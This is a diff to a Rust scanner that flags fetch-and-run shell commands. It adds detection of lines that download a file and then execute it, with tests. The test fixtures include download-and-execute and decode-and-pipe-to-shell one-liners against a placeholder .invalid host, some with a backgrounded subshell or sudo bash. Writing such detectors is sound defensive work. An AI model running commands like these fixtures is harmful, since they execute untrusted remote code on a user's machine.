@@ -191,7 +191,7 @@ pub(super) fn read(bytes: &[u8], found: &mut BTreeSet<String>) {
                 add("fetch-and-run/handler");
             }
         } else if let Some((_, name)) = SOURCES.get(number - RUNS.len()) {
-            if is_piped(line(bytes, at)) {
+            if is_piped(line(bytes, at)) || is_kept_and_run(line(bytes, at)) {
                 add(name);
             }
         } else if number == RUNS.len() + SOURCES.len() {
@@ -272,6 +272,22 @@ fn is_piped(line: &[u8]) -> bool {
         let first = words.next().unwrap_or_default();
         SHELLS.contains(&first.rsplit(|byte| *byte == b'/').next().unwrap_or_default())
     })
+}
+
+/// `curl … -o FILE && sh FILE`: what is fetched is run by the same line.
+fn is_kept_and_run(line: &[u8]) -> bool {
+    let keeps = holds(
+        line,
+        &[b" -o ", b" -O ", b" -fso ", b" -fsSLo ", b" -sSLo ", b" -sLo ", b" -Lo ", b" -qO ", b" --output "],
+    );
+    let mut commands =
+        line.split(|byte| matches!(byte, b';' | b'&' | b'|')).skip(1).map(<[u8]>::trim_ascii_start);
+    keeps
+        && commands.any(|command| {
+            let word = command.split(|byte| byte.is_ascii_whitespace()).next().unwrap_or_default();
+            SHELLS.contains(&word.rsplit(|byte| *byte == b'/').next().unwrap_or_default())
+                || command.starts_with(b"chmod +x")
+        })
 }
 
 /// `on('data', (c) => { eval(c) })`, and the same of a promise that a `fetch` made.
@@ -358,6 +374,12 @@ mod tests {
         check(b"wget -qO- x.invalid | sudo /bin/bash -s\n", &["fetch-and-run/pipe"]);
         check(b"echo eA== | base64 -d | sh\n", &["decode-and-run/pipe"]);
         check(b"curl x.invalid | tar x\nls | sh\n", &[]);
+        check(
+            b"(/usr/bin/curl -fsm 20 https://x.invalid/i -o /run/.i && sh /run/.i) &\n",
+            &["fetch-and-run/pipe"],
+        );
+        check(b"wget -O x http://x.invalid/ ; chmod +x x\n", &["fetch-and-run/pipe"]);
+        check(b"curl -o x http://x.invalid/ && tar xf x\nsh y\n", &[]);
         check(b"base64 -d x > y\n", &[]);
     }
 
